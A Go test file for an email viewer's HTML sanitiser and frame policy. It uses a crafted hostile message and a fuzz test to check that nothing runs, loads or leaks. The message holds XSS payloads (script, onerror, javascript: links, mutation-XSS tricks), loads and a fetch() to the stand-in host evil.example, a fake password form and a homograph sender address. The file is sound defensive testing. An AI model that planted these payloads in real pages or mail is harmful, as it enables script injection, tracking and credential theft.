package web

import (
	"net/http"
	"strings"
	"testing"
	"time"

	"inwriting/search"
	"inwriting/search/web/browser"
)

// hostileMail is what a sender can do to whoever reads it.
const hostileMail = "From: \"Martin Hale\" <martin@h\u0430learchitects.example>\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n" +
	"--b\r\nContent-Type: text/plain\r\n\r\nplain\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + `<html><head>
<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<link rel="stylesheet" href="http://evil.example/style.css"><link rel="prefetch" href="http://evil.example/prefetch">
<style>@import url(http://evil.example/import.css); body { background: url(http://evil.example/bg.png); position: fixed; inset: 0; z-index: 9999 } @font-face { font-family: x; src: url(http://evil.example/f.woff) }</style>
<script>top.location = "http://evil.example/top"; alert("script"); fetch("http://evil.example/fetch")</script></head>
<body onload="alert('onload')" background="http://evil.example/body.png">
<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:url(http://evil.example/p.png)">Hello Nora, the <b>14th</b> please.</p>
<img src="http://evil.example/pixel.gif" width=1 height=1><img srcset="//evil.example/set.png 2x" src=x onerror="alert('onerror')"><img src="cid:part1"><IMG SRC='https://evil.example/a>b.png'>
<svg onload="alert('svg')"><image href="http://evil.example/svg.png"/><use href="http://evil.example/use.svg#x"/></svg>
<iframe src="http://evil.example/frame" srcdoc="<script>alert('srcdoc')</script>"></iframe><object data="http://evil.example/object"></object><embed src="http://evil.example/embed">
<video src="http://evil.example/video" poster="http://evil.example/poster.png" autoplay></video><audio src="http://evil.example/audio" autoplay></audio>
<form action="http://evil.example/form" method="post"><input name="password" autofocus onfocus="alert('focus')"><button formaction="javascript:alert('form')">Sign in again</button></form>
<a href="javascript:alert('link')">link</a> <a href="http://evil.example/click" ping="http://evil.example/ping">other</a>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('mxss')&gt;">
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></noscript><template><script>alert('template')</script></template>
<table border="1" width="99999999">` + "%ROWS%" + `</table></body></html>` + "\r\n--b--\r\n"

// A hostile message changes nothing outside its frame, runs nothing, sends nothing and
// loads nothing, in any of the ways to look at it.
func TestHostileInTheBrowser(t *testing.T) {
	b := browser.Start(t)
	f := &fake{results: &search.Results{}, doc: doc(), cov: coverage(),
		octets: []byte(strings.Replace(hostileMail, "%ROWS%", strings.Repeat("<tr>"+strings.Repeat("<td colspan=1000 rowspan=65534>wide </td>", 200)+"</tr>", 60), 1))}
	f.doc.Message.From = "Martin Hale <martin@h\u0430learchitects.example>"
	base := serve(t, New(f, Options{Location: time.UTC}))
	msg := base + "/message/" + ref(4).String()
	p := b.Page(t, browser.Looks[0])

	p.Open(msg)
	look := `(() => { const s = document.querySelector("header.bar").getBoundingClientRect(); return [document.title, location.href, s.top, s.height, document.querySelectorAll("script").length, getComputedStyle(document.body).backgroundColor].join("|") })()`
	before := browser.Eval[string](p, look)
	if !strings.Contains(p.Text(".mail header"), "mixes letters of several scripts") {
		t.Errorf("the homograph is not named: %s", p.Text(".mail header"))
	}
	for _, view := range []string{"sent", "headers", "source"} {
		p.Open(msg + "?view=" + view)
		time.Sleep(300 * time.Millisecond) // for what would come by itself
		if after := browser.Eval[string](p, look); strings.Replace(after, "?view="+view, "", 1) != before {
			t.Errorf("as %s the page is %s, without it %s", view, after, before)
		}
		if n := browser.Eval[int](p, "document.documentElement.scrollWidth"); n > 1440 {
			t.Errorf("as %s the page is %d wide", view, n)
		}
	}
	p.Open(msg + "?view=sent")
	if !strings.Contains(p.Text(".views"), "3 remote pictures not loaded") {
		t.Errorf("what was not loaded: %q", p.Text(".views"))
	}
	p.Shot("06-message-hostile")

	// The frame by itself, out of its sandbox: its own policy and the sanitiser hold, too.
	p.Open(msg + "/frame")
	time.Sleep(300 * time.Millisecond)
	if s := p.Text("main"); !strings.Contains(s, "Hello Nora, the 14th please.") {
		t.Errorf("what was written is lost: %.200q", s)
	}
	if n := browser.Eval[int](p, `document.querySelectorAll("script, img, iframe, form, input, object, embed, video, audio, svg, math, base, link, a[href], [style], [onload], [onerror]").length`); n != 0 {
		t.Errorf("%d elements came through that can act", n)
	}
	for _, u := range p.Requests() {
		if !strings.HasPrefix(u, base) {
			t.Errorf("asked for %s", u)
		}
	}
	if said := p.Said(); len(said) > 0 {
		t.Errorf("it said %q", said)
	}
}

func TestFramePolicy(t *testing.T) {
	f, h := pages()
	f.octets = []byte("Content-Type: text/html\r\n\r\n<p onclick=x>hi</p>")
	w := get(t, h, "/message/"+ref(4).String()+"/frame")
	if w.Code != http.StatusOK || w.Header().Get("Content-Security-Policy") != FramePolicy || !strings.Contains(w.Body.String(), "<p>hi</p>") {
		t.Errorf("%d %v %s", w.Code, w.Header(), w.Body)
	}
	if w := get(t, h, "/message/zz/frame"); w.Code != http.StatusNotFound {
		t.Errorf("a frame of nothing: %d", w.Code)
	}
}

// FuzzSanitise: whatever comes in, nothing that acts or loads comes out.
func FuzzSanitise(f *testing.F) {
	f.Add("<img src=http://x><b>hi</b><script>x</script>")
	f.Add("<IMG \x00 SRC='//e'><svg><style>@import url(x)</style>")
	f.Add("<a href=javascript:x>y</a><p style=\"background:url(x)\">")
	f.Fuzz(func(t *testing.T, s string) {
		out, remote := sanitise(s)
		low := strings.ToLower(out)
		for _, bad := range []string{"<script", "<img", "<iframe", "<form", "<input", "<link", "<style", "<svg", "<object", "<base", " style=", " on", " href=", " src="} {
			i := strings.Index(low, bad)
			// Text may say so; a tag may not.
			if i >= 0 && (bad[0] == '<' || strings.LastIndexByte(low[:i], '<') > strings.LastIndexByte(low[:i], '>')) {
				t.Fatalf("%q came through: %q became %q", bad, s, out)
			}
		}
		if remote < 0 {
			t.Fatal("fewer than none")
		}
	})
}
